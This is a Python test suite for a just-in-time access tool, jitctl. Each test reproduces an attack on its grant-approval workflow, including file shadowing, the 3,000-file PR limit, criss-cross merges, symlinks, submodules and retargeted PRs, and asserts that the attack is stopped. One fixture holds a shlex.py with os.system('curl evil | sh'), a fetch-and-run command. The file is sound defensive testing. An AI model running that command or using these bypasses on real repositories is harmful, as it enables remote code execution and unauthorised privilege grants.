"""The attacks of an adversary with write access to the access repository, each a test named
after it, driving the real CLI against the emulator (over HTTP) or real git repositories.

Every one of them got a green status, or a merge, for something nobody was asked to approve
before the fix; see docs/security.md for the threat model these tests prove.
"""

from __future__ import annotations

import json
from pathlib import Path

from tests.factories import grant_text
from tests.ghworld import REPO, World, git, world

__all__ = ["world"]

ROOT = Path(__file__).resolve().parents[2]
RULESET = json.loads((ROOT / "docs" / "ruleset.json").read_text())
LATER = "2026-11-24T17:00:00Z"


def shipped_settings(w: World, catch_all: str = "@acme/platform") -> None:
    """The repository as docs/github-setup.md sets it up: the shipped ruleset (the App's
    integration id) and a CODEOWNERS that starts with a catch-all."""
    w.gh.emu.add_team("acme", "platform", ["dave"])
    ruleset = json.loads(json.dumps(RULESET)) | {"id": 7}
    for rule in ruleset["rules"]:
        if rule["type"] == "required_status_checks":
            rule["parameters"]["required_status_checks"][0]["integration_id"] = w.gh.app_id
    w.gh.emu.add_ruleset(ruleset)
    codeowners = (ROOT / ".github" / "CODEOWNERS").read_text()
    w.gh.emu.commit_files("main", {".github/CODEOWNERS": codeowners}, "owners", author="dave")


def open_pr(w: World, branch: str, author: str, base: str = "main") -> int:
    with w.client(author) as g:
        return int(
            g.get_repo(REPO).create_pull(title=branch, body="", head=branch, base=base).number
        )


def approvals(w: World, number: int, *args: str, now: str = "2026-11-24T12:00:00Z") -> dict:  # type: ignore[type-arg]
    r = w.jitctl("approvals", "--pr", str(number), "--format", "json", *args, now=now)
    assert r.exit_code in (0, 1), r.output
    out: dict = json.loads(r.stdout)  # type: ignore[type-arg]
    return out


def try_merge(w: World, number: int, login: str) -> int | None:
    """A person merges the PR through the API (no sha precondition): GitHub's answer."""
    import github

    with w.client(login) as g:
        try:
            g.get_repo(REPO).get_pull(number).merge()
        except github.GithubException as exc:
            return int(exc.status)
    return None


# --- 1 ------------------------------------------------------------------------------------


def test_attack_1_root_files_never_pass_without_their_owners(world: World) -> None:
    """A PR that adds shlex.py (or setup.py, venv/) at the root changes no grant: it used to get
    a bare success and no owner, and the author merged it alone."""
    w = world
    shipped_settings(w)
    w.gh.emu.commit_files(
        "evil",
        {"shlex.py": "import os\nos.system('curl evil | sh')\n", "venv/__init__.py": "x = 1\n"},
        "helpers",
        author="alice",
    )
    number = open_pr(w, "evil", "alice")
    out = approvals(w, number, "--merge")
    head = w.gh.emu.pull(number).head_sha
    state, desc = w.status(head) or ("", "")
    assert state == "pending", desc
    assert "shlex.py" in (desc or "") and "code-owner" in (desc or "")
    assert not out["merged"] and w.gh.emu.pull(number).merged_at is None
    # GitHub itself refuses the author's merge: the catch-all owner has not approved
    assert try_merge(w, number, "alice") == 405
    # the platform team's review on this commit: success, and still never merged by jitctl
    w.approve(number, "dave")
    out = approvals(w, number, "--merge")
    assert out["state"] == "success" and "code owners approved" in out["description"]
    assert not out["merged"] and w.gh.emu.pull(number).merged_at is None


# --- 2 ------------------------------------------------------------------------------------


def test_attack_2_a_push_during_judgement_gets_no_green_status(world: World) -> None:
    """The snapshot read the file list by PR number (a moving head) and the contents at the
    first head: a push in between got a green status on content never judged."""
    w = world
    # the jitctl status required (no stale-review dismissal: the approval on the first head
    # still counts for that head)
    w.gh.emu.protect_branch("main", {"required_status_checks": {"contexts": ["jitctl"]}})
    ro = grant_text(principal="carol@example.com", expires_at="2026-11-24T15:00:00Z")
    admin = grant_text(
        principal="carol@example.com", entitlement="aws-prod-admin",
        expires_at="2026-11-24T12:30:00Z",
    )  # fmt: skip
    first = w.gh.emu.commit_files(
        "req", {"grants/carol-ro.hcl": ro, "grants/carol-admin.hcl": admin}, "ask", author="carol"
    )
    number = open_pr(w, "req", "carol")
    w.approve(number, "dave")  # an SRE: enough for read-only, not for admin (needs security)

    def push() -> None:  # the requester drops the admin grant while jitctl reads
        w.gh.emu.commit_files("req", {"grants/carol-admin.hcl": None}, "drop", author="carol")

    # the first read after the PR itself
    w.gh.emu.inject("GET", r"/pulls/\d+/files$|/git/ref/heads/main$", "push", action=push)
    approvals(w, number)
    moved = w.gh.emu.ref("req")
    assert moved != first
    assert w.status(first) is not None
    state, desc = w.status(first) or ("", "")
    assert state != "success", f"{first[:12]} holds an unapproved admin grant: {desc}"
    assert "@acme/security" in (desc or "")
    assert w.status(moved or "") is None  # the new head: no status until it is judged itself
    # restoring the first head (a force-push) brings back no green status to merge with
    w.gh.emu.git.update_ref("refs/heads/req", first)
    assert try_merge(w, number, "carol") == 405


# --- 3 ------------------------------------------------------------------------------------


def test_attack_3_a_grant_past_file_3000_is_judged(world: World, tmp_path: Path) -> None:
    """GitHub lists at most 3,000 files of a PR; a grant placed after them was never read."""
    w = world
    clone = w.clone
    git(clone, "checkout", "-q", "-b", "bulk", "origin/main")
    (clone / "bulk").mkdir()
    for i in range(3000):
        (clone / "bulk" / f"f{i:04d}.txt").write_text(f"filler {i}\n")
    (clone / "grants" / "zz-admin.hcl").write_text(
        grant_text(principal="carol@example.com", entitlement="aws-prod-admin",
                   expires_at="2026-11-24T12:30:00Z")
    )  # fmt: skip
    git(clone, "add", "-A")
    git(clone, "commit", "-qm", "bulk")
    git(clone, "push", "-q", "origin", "bulk")
    git(clone, "checkout", "-q", "main")
    number = open_pr(w, "bulk", "carol")
    with w.client("carol") as g:
        pr = g.get_repo(REPO).get_pull(number)
        assert pr.changed_files == 3001
        assert len(list(pr.get_files())) == 3000  # the API stops at 3,000, like GitHub's
    out = approvals(w, number)
    assert [g["id"] for g in out["grants"]] == ["zz-admin"]
    assert {"from": ["@acme/security"], "count": 1} in out["approval_rules"]
    assert out["state"] != "success"


# --- 4 ------------------------------------------------------------------------------------


def test_attack_4_a_foreign_commit_on_jit_expire_is_never_merged(world: World) -> None:
    """A commit pushed to jit/expire by someone else (deleting a live grant) was merged by the
    next run as a revocation in jitctl's name."""
    w = world
    w.gh.emu.commit_files(
        "main",
        {"grants/g-old.hcl": grant_text(expires_at="2026-11-24T16:00:00Z"),
         "grants/g-live.hcl": grant_text(expires_at="2026-11-24T20:00:00Z")},
        "grants", author="alice",
    )  # fmt: skip
    r = w.jitctl("expire", "--no-merge", "--format", "json", now=LATER)
    assert r.exit_code == 0, r.output
    number = json.loads(r.stdout)["pr"]
    foreign = w.gh.emu.commit_files(
        "jit/expire", {"grants/g-live.hcl": None}, "also this one", author="bob"
    )
    # the merge workflow judges every open PR: the expiry PR is never merged by it
    out = approvals(w, number, "--merge", now=LATER)
    assert not out["merged"] and w.gh.emu.pull(number).merged_at is None
    assert "grants/g-live.hcl" in w.main_files()
    # the expiry run finds the foreign commit, rebuilds the branch from main, says so
    r = w.jitctl("expire", "--format", "json", now=LATER)
    assert r.exit_code == 0, r.output
    out = json.loads(r.stdout)
    assert out["merged"] and "rebuilt" in out["note"]
    assert "grants/g-live.hcl" in w.main_files()
    assert "grants/g-old.hcl" not in w.main_files()
    reach = git(w.gh.bare_path, "branch", "--contains", foreign, "--format=%(refname:short)")
    assert "main" not in reach.split()


# --- 5 ------------------------------------------------------------------------------------


# Attributes laid out so that the entitlement and expires_at lines are apart: git merges an
# edit of one with an edit of the other cleanly.
def spaced(entitlement: str, expires_at: str) -> str:
    return (
        "grant {\n"
        f'  entitlement = "{entitlement}"\n'
        '  principal   = "carol@example.com"\n'
        '  reason      = "INC-5: investigation"\n'
        f'  expires_at  = "{expires_at}"\n'
        "}\n"
    )


def test_attack_5_a_reused_id_cannot_be_extended_from_an_old_branch(world: World) -> None:
    """Judged from the merge base, an old branch's read-only extension of a grant id that main
    revoked and reused for admin merged a longer admin window."""
    w = world
    w.gh.emu.commit_files(
        "main", {"grants/carol-x.hcl": spaced("aws-prod-readonly", "2026-11-24T13:00:00Z")},
        "grant", author="carol",
    )  # fmt: skip
    w.gh.emu.commit_files(
        "extend", {"grants/carol-x.hcl": spaced("aws-prod-readonly", "2026-11-24T20:00:00Z")},
        "extend", author="carol",
    )  # fmt: skip
    w.gh.emu.commit_files("main", {"grants/carol-x.hcl": None}, "revoke", author="carol")
    w.gh.emu.commit_files(
        "main", {"grants/carol-x.hcl": spaced("aws-prod-admin", "2026-11-24T13:00:00Z")},
        "admin", author="carol",
    )  # fmt: skip
    number = open_pr(w, "extend", "carol")
    w.approve(number, "dave")  # read-only approver; admin needs @acme/security as well
    out = approvals(w, number, "--merge")
    assert not out["merged"] and w.gh.emu.pull(number).merged_at is None
    assert out["state"] != "success", out
    assert [(g["id"], g["change"]) for g in out["grants"]] == [("carol-x", "extension")]
    assert {"from": ["@acme/security"], "count": 1} in out["approval_rules"]


def test_attack_5_a_criss_cross_expiry_cannot_restore_a_revoked_grant(world: World) -> None:
    """With two merge bases, GitHub's diff of a PR showed one expired deletion while the merge
    brought back a revoked grant; it was auto-merged as an expiry."""
    w = world
    emu = w.gh.emu
    m0 = emu.commit_files(
        "main",
        {"grants/old.hcl": grant_text(expires_at="2026-11-24T11:00:00Z"),
         "grants/revoked.hcl": grant_text(principal="bob@example.com",
                                          expires_at="2026-11-24T20:00:00Z")},
        "grants", author="alice",
    )  # fmt: skip
    b2 = emu.commit_files(
        "side-b", {"grants/revoked.hcl": None}, "revoke", author="carol", start=m0
    )
    # later than B2: git's merge-base (and GitHub's diff) picks this one of the two
    b1 = emu.commit_files("side-a", {"README.md": "a\n"}, "harmless", author="bob", start=m0)
    g = emu.git
    sig = emu.signature("carol")
    main_tip = g.commit_tree(g.merge_tree(b2, b1) or "", [b2, b1], "merge a", sig, sig)
    g.update_ref("refs/heads/main", main_tip)
    # the attacker's merge of the same two commits keeps the revoked grant (its tree is B1's)
    sig = emu.signature("bob")
    crafted = g.commit_tree(g.commit_info(b1).tree, [b1, b2], "merge b", sig, sig)
    g.update_ref("refs/heads/expire-ish", crafted)
    emu.commit_files("expire-ish", {"grants/old.hcl": None}, "expire old", author="bob")
    number = open_pr(w, "expire-ish", "bob")
    with w.client("bob") as gh:
        files = [f.filename for f in gh.get_repo(REPO).get_pull(number).get_files()]
    assert files == ["grants/old.hcl"]  # what GitHub shows: one expired deletion
    out = approvals(w, number, "--merge")
    assert not out["merged"] and emu.pull(number).merged_at is None
    assert "grants/revoked.hcl" not in w.main_files()
    kinds = {g["id"]: g["change"] for g in out["grants"]}
    assert kinds.get("revoked") == "request", out["grants"]


# --- 6 ------------------------------------------------------------------------------------


def _push_entry(
    w: World, branch: str, files: dict[str, str], links: dict[str, tuple[str, str]]
) -> None:
    """Push ``branch`` from main with regular ``files`` and special entries (path -> (mode,
    sha or symlink target)) written with git's index, as any contributor can."""
    clone = w.clone
    git(clone, "fetch", "-q", "origin")
    git(clone, "checkout", "-q", "-B", branch, "origin/main")
    for rel, text in files.items():
        (clone / rel).parent.mkdir(parents=True, exist_ok=True)
        (clone / rel).write_text(text)
        git(clone, "add", rel)
    for rel, (mode, value) in links.items():
        sha = value
        if mode == "120000":
            sha = git(clone, "hash-object", "-w", "--stdin", input=value.encode())
        git(clone, "update-index", "--add", "--cacheinfo", f"{mode},{sha},{rel}")
    git(clone, "commit", "-qm", "entries")
    git(clone, "push", "-q", "-f", "origin", f"{branch}:{branch}")
    git(clone, "checkout", "-q", "main")


def test_attack_6_a_symlinked_grant_is_refused(world: World) -> None:
    """The contents API follows a symlink: the PR was judged and approved as its target."""
    w = world
    w.gh.emu.commit_files(
        "main", {"grants/alice-ro.hcl": grant_text(expires_at="2026-11-24T15:00:00Z")},
        "grant", author="alice",
    )  # fmt: skip
    _push_entry(w, "link", {}, {"grants/alice-again.hcl": ("120000", "alice-ro.hcl")})
    number = open_pr(w, "link", "alice")
    w.approve(number, "carol")
    out = approvals(w, number, "--merge")
    assert not out["merged"] and out["state"] == "failure"
    assert any(f["rule"] == "grant.symlink" for f in out["findings"])


def test_attack_6_a_submodule_under_grants_is_refused(world: World) -> None:
    """A gitlink under grants/ was skipped without a word and merged with the PR's grant."""
    w = world
    main = w.gh.emu.ref("main") or ""
    _push_entry(
        w, "sub", {"grants/alice-x.hcl": grant_text(expires_at="2026-11-24T15:00:00Z")},
        {"grants/vendor": ("160000", main)},
    )  # fmt: skip
    number = open_pr(w, "sub", "alice")
    w.approve(number, "carol")
    out = approvals(w, number, "--merge")
    assert not out["merged"] and out["state"] == "failure"
    assert [f["file"] for f in out["findings"] if f["rule"] == "grant.mode"] == ["grants/vendor"]


# --- 7 ------------------------------------------------------------------------------------


def test_attack_7_a_retargeted_pr_is_rejudged(world: World) -> None:
    """A status lives on the head sha: a PR judged green against one base kept it after the
    base changed. The workflows re-judge on `edited` (base change) and `reopened`, and jitctl
    judges against the current base every time."""
    import yaml

    w = world
    w.gh.emu.commit_files("side", {"README.md": "side\n"}, "side", author="dave")
    w.gh.emu.commit_files(
        "req", {"grants/alice-x.hcl": grant_text(expires_at="2026-11-24T15:00:00Z")},
        "ask", author="alice",
    )  # fmt: skip
    number = open_pr(w, "req", "alice")
    w.approve(number, "carol")
    assert approvals(w, number)["state"] == "success"
    head = w.gh.emu.pull(number).head_sha
    with w.client("alice") as g:
        g.get_repo(REPO).get_pull(number).edit(base="side")
    out = approvals(w, number, "--merge")
    assert out["state"] == "failure" and w.status(head) == ("failure", out["description"])
    with w.client("alice") as g:
        g.get_repo(REPO).get_pull(number).edit(base="main")
    assert approvals(w, number)["state"] == "success"
    # what triggers the re-judgement: a base change (edited) or a re-opened PR, and a new tip
    check = yaml.safe_load((ROOT / ".github/workflows/jit-check.yml").read_text())
    on = check.get("on", check.get(True))
    assert {"edited", "reopened"} <= set(on["pull_request"]["types"])
    merge = yaml.safe_load((ROOT / ".github/workflows/jit-merge.yml").read_text())
    on = merge.get("on", merge.get(True))
    assert on["push"]["branches"] == ["main"]
